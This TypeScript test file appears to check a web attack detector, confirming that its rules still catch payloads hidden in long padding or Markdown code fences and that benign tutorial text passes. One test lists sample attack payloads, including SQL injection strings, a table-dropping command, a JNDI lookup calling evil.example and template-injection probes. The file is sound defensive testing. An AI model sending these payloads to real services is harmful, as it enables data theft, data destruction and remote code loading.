import assert from 'node:assert'
import { test } from 'node:test'
import { compileDetection, ruleCatalogue, type Finding, type Overflow, type Rule } from '../../lib/detect/index.ts'

const LENGTH = 65536
const WORDS = 'the quick brown fox jumps over lazy dog and then writes a long letter to its old friend in the city about prices of apples, pears or plums'.split(' ')

/** 64 KB of words in sentences, each followed by `end`. */
function prose (end: string): string {
  let text = ''
  for (let i = 0; text.length < LENGTH; i++) text += WORDS[(i * 7) % WORDS.length] + (i % 11 === 10 ? end : ' ')
  return `${text.trimEnd()}.`
}

const LETTERS = 'a'.repeat(LENGTH)
const SPACES = ' '.repeat(LENGTH)
const PROSE = prose('. ')
const LINES = prose('.\n')
const PADDINGS: Readonly<Record<string, readonly [before: string, after: string]>> = {
  letters: [`${LETTERS} `, ` ${LETTERS}`],
  spaces: [SPACES, SPACES],
  prose: [`${PROSE} `, ` ${PROSE}`],
  lines: [`${LINES}\n`, `\n${LINES}`]
}

/** Rules that padding of some kind hides, by what they are: no cure for them lets articles pass. Documented in docs/checks/detection.md. */
const WHOLE_VALUE: Readonly<Record<string, string>> = {
  'command/backtick': 'articles quote every command in backticks',
  'command/wrapper': 'two plain words are prose, and no shell runs the second half of a sentence',
  'crlf/blank': 'a line with a colon is what every letter has; headers by name are found',
  'deserialization/ruby': 'three letters, which count only where a value begins with them',
  'file-inclusion/bare': 'a probe that is nothing but the start of a URL',
  'sqli/fragment': 'a piece of SQL as the whole value (level 2)',
  'sqli/hint': 'a piece of SQL as the whole value (level 2)',
  'sqli/statement': 'within a sentence a statement of words is a sentence; on its own line it is found',
  'sqli/word': 'a word as the whole value (level 3)',
  'ssrf/host': 'an address in a sentence is mentioned; a server fetches a value',
  'ssrf/internal': 'an address in a sentence is mentioned; a server fetches a value',
  'ssrf/loopback': 'an address in a sentence is mentioned; a server fetches a value'
}

function attack (found: Finding | Overflow | undefined, id: string): boolean {
  return found !== undefined && 'matches' in found && found.matches.some(({ rule }) => rule === id)
}

/** Judges a rule's example, padded, in the place that its text names. */
function judge ({ id, level, category, match }: Rule, before: string, after: string): boolean {
  const others = ruleCatalogue.filter((rule) => rule.id !== id).map((rule) => rule.id)
  const detector = compileDetection({ level, exclude: { rules: others } }, { maxBytes: 1 << 20 })
  const named = /^(.*) \(as (file name|name|path)\)$/s.exec(match)
  const text = `${before}${named?.[1] ?? match}${after}`
  if (named?.[2] === 'file name') return attack(detector.body({ file: { type: 'file', fieldname: 'file', filename: text, fields: {} } }, 'multipart/form-data'), id)
  if (named?.[2] === 'name') return attack(detector.request(`/?${text}`, {}, false), id)
  if (id === 'crlf/break') return attack(detector.request('/', { 'x-a': text }, false), id)
  if (category === 'nosql' && match.startsWith('{"')) return attack(detector.body({ pad: text.slice(0, before.length), ...JSON.parse(match) as object, end: text.slice(-after.length) }, 'application/json'), id)
  if (id === 'file-inclusion/remote') return attack(detector.request(`/?include=${encodeURIComponent(text)}`, {}, false), id)
  return attack(detector.request(`/?q=${encodeURIComponent(text)}`, {}, false), id) || attack(detector.body({ q: text }, 'application/json'), id)
}

/** What an example is by its place: a file name by its end, a parameter's name and a path from their start. */
const ENDS = /\(as (?:file name|name|path)\)$/

for (const rule of ruleCatalogue) {
  if (rule.category === 'probe') continue
  const exempt = WHOLE_VALUE[rule.id]
  test(`64 KB of padding hides nothing from ${rule.id}${exempt === undefined ? '' : ` beside it: ${exempt}`}`, () => {
    const filler = Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`field${i}`, `value number ${i} of many`]))
    if (!ENDS.test(rule.match) && rule.id !== 'crlf/break' && rule.id !== 'file-inclusion/remote' && !rule.match.startsWith('{"')) {
      const detector = compileDetection({ level: rule.level }, { maxBytes: 1 << 20 })
      for (const body of [{ ...filler, q: rule.match }, { q: rule.match, ...filler }]) {
        const found = detector.body(body, 'application/json') ?? detector.request(`/?q=${encodeURIComponent(rule.match)}`, {}, false)
        assert.ok(found !== undefined && 'matches' in found, 'JSON around it')
      }
    }
    if (exempt !== undefined && /^(?:ssrf|sqli\/statement|file-inclusion)/.test(rule.id)) {
      const [before, after] = PADDINGS['spaces']!
      assert.ok(judge(rule, before, '') && judge(rule, '', after) && judge(rule, before, after), 'spaces, which a server takes off')
    }
    if (exempt !== undefined || ENDS.test(rule.match)) return
    for (const [kind, [before, after]] of Object.entries(PADDINGS)) {
      assert.ok(judge(rule, before, ''), `${kind} before`)
      assert.ok(judge(rule, '', after), `${kind} after`)
      assert.ok(judge(rule, before, after), `${kind} around`)
    }
  })
}

test('a fence of Markdown hides no attack that breaks out of something', () => {
  const detector = compileDetection({}, { maxBytes: 1 << 20 })
  for (const payload of ["1' or '1'='1", '1 UNION SELECT name, password FROM users', '${jndi:ldap://evil.example/a}', '{{7*7}}', "{{''.__class__.__mro__}}", '1; DROP TABLE users']) {
    const found = detector.body({ q: `# Title\n\n${LINES}\n\n\`\`\`\n${payload}\n\`\`\`\n\n${LINES}` }, 'application/json')
    assert.ok(found !== undefined && 'matches' in found, payload)
  }
})

test('from level 3 on a fence hides nothing', () => {
  for (const { id, match, category, level } of ruleCatalogue) {
    if (!/^(?:xss|command|traversal|code)$/.test(category) || WHOLE_VALUE[id] !== undefined || ENDS.test(match) || level > 1 || match.includes('`')) continue
    const detector = compileDetection({ level: 3 }, { maxBytes: 1 << 20 })
    const found = detector.body({ q: `# Title\n\n${LINES}\n\n\`\`\`\n${match}\n\`\`\`\n\n${LINES}` }, 'application/json')
    assert.ok(found !== undefined && 'matches' in found, id)
  }
})

test('articles that show code pass at level 1', () => {
  const detector = compileDetection({}, { maxBytes: 1 << 20 })
  const article = (...parts: string[]): string => ['# How to begin', 'Install the package and read the guide, then come back here and go on with the next part of it.', ...parts, 'That is all there is to it, and you can now go on to the next chapter of the guide.'].join('\n\n')
  for (const text of [
    article('Run `npm install` and then `cat package.json` to see what it did.'),
    article('```js\nconst fs = require(\'node:fs\')\nconst text = fs.readFileSync(\'a.txt\')\nconsole.log(text)\n```'),
    article('```sql\nSELECT name FROM users WHERE id = 1;\n```'),
    article('```html\n<script src="https://cdn.example.com/a.js"></script>\n```'),
    article('Open http://localhost:3000/ in your browser, or `http://127.0.0.1:3000`.'),
    article('| command | what it does |\n|---|---|\n| ls -la | lists files |\n| rm -rf dist | cleans |'),
    article('```\nimport subprocess\nsubprocess.run(["ls", "-l"])\n```'),
    article("Don't use it where it's not wanted *(see below)*, and write `a || b` rather than 'or'.")
  ]) {
    assert.strictEqual(detector.body({ text }, 'application/json'), undefined, text)
  }
})
